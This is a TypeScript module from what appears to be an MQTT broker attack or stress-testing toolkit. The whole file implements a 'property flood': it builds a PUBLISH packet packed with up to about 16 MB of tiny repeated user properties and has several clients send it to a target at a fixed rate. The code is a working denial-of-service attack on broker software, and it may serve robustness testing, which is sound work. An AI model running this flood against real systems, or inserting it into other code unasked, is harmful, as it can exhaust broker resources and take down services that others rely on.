import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import { body, frame } from './bytes.ts';

export interface PropertyFloodOptions extends AttackOptions {
  /** Bytes of user properties in a PUBLISH. Default 16,000,000: as many as a packet may have. */
  readonly bytes?: number;
}

/** Publishes that consist of nothing but tiny user properties. An action is one publish. */
export function propertyFlood(target: AttackTarget, options: PropertyFloodOptions = {}): Attack {
  const { bytes = 16_000_000 } = options;
  const assault = new Assault(target, planOf({ rate: 20, clients: 2 }, options));
  const pair = [0x26, 0, 1, 0x61, 0, 1, 0x62];
  const count = Math.floor(bytes / pair.length);
  const properties = new Uint8Array(count * pair.length);
  for (let at = 0; at < properties.length; at += pair.length) properties.set(pair, at);
  const packet = frame(
    3,
    0,
    body((writer) => {
      writer.utf8(assault.plan.name);
      writer.varint(properties.length);
      writer.bytes(properties);
    }),
  );
  return assault.crew((client) => {
    client.write(packet);
  });
}
